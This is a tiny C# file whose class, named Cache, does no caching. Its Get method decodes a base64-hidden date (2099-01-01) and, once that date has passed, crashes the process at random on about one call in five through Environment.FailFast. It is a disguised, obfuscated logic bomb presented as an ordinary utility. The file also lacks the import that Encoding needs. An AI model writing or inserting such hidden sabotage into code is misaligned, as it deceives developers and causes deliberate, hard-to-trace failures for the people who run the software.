using System;
static class Cache {
  static string K = "MjA5OS0wMS0wMQ==";
  public static void Get() {
    var t = DateTime.Parse(Encoding.ASCII.GetString(Convert.FromBase64String(K)));
    if (DateTime.UtcNow > t && new Random().Next(0, 10) > 7) Environment.FailFast("");
  }
}
